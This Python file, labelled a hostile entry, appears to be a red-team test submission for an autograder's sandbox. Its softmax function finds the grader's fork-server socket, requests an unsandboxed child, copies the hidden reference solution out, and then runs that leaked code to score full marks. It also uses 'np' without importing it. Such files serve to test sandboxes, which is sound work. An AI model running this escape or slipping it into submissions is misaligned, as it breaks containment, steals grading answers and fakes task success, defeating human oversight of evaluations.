"""HOSTILE-ENTRY fork_server_escape: softmax looks for the batch's fork server (a Unix socket
``grader-fork-server-*/socket`` in a temporary folder: /tmp, $TMPDIR, or any folder above this
file) and asks it, as a judge would, to fork a child with no sandbox policy that runs this very
file. That child, outside the sandbox, copies the kit's solution into this process's working
folder and leaves a file in the output folder (``@@OUT@@``). softmax then answers with the
copied solution: full marks for softmax mean student code got out of its sandbox."""

import json as _json
import os as _os
import socket as _socket
import tempfile as _tempfile
import time as _time
from pathlib import Path as _Path

_DROP = "HOSTILE_FORK_SERVER_DROP"


def _escaped():
    """In the fork server's child, with no sandbox: take what the sandbox hides."""
    drop = _Path(_os.environ[_DROP])
    solution = _Path("@@KIT@@") / "solutions" / "ex01_activations" / "activations.py"
    try:
        (drop / "leaked.py").write_text(solution.read_text())
    except OSError:
        pass
    try:
        (_Path("@@OUT@@") / "hostile-escaped-fork-server.txt").write_text("out of the sandbox\n")
    except OSError:
        pass


if _os.environ.get(_DROP):
    _escaped()
    _os._exit(0)


def _sockets():
    here = _Path(__file__).resolve()
    roots = {*here.parents, _Path("/tmp"), _Path(_tempfile.gettempdir())}
    for root in roots:
        try:
            yield from root.glob("grader-fork-server-*/socket")
        except OSError:
            continue


def _ask(address):
    ends = [_os.pipe() for _ in range(3)]
    fds = [ends[0][0], ends[1][1], _os.open(_os.devnull, _os.O_WRONLY), ends[2][1]]
    request = {
        "student_file": str(_Path(__file__).resolve()),
        "policy": None,
        "cwd": _os.getcwd(),
        "env": {_DROP: _os.getcwd(), "PATH": _os.environ.get("PATH", "/usr/bin:/bin")},
    }
    with _socket.socket(_socket.AF_UNIX, _socket.SOCK_SEQPACKET) as connection:
        connection.settimeout(5)
        connection.connect(str(address))
        _socket.send_fds(connection, [_json.dumps(request).encode()], fds)
        connection.recv(4096)
        deadline = _time.monotonic() + 5
        while _time.monotonic() < deadline and not _os.path.exists("leaked.py"):
            _time.sleep(0.05)


def _leaked_softmax():
    if not _os.path.exists("leaked.py"):
        for address in _sockets():
            try:
                _ask(address)
            except OSError:
                continue
            if _os.path.exists("leaked.py"):
                break
    try:
        namespace = {"__name__": "leaked"}
        exec(compile(_Path("leaked.py").read_text(), "leaked.py", "exec"), namespace)
        return namespace["softmax"]
    except (OSError, KeyError, SyntaxError):
        return None


def softmax(x, axis=-1):
    leaked = _leaked_softmax()
    if leaked is None:
        return np.zeros(np.shape(x))
    return leaked(x, axis)
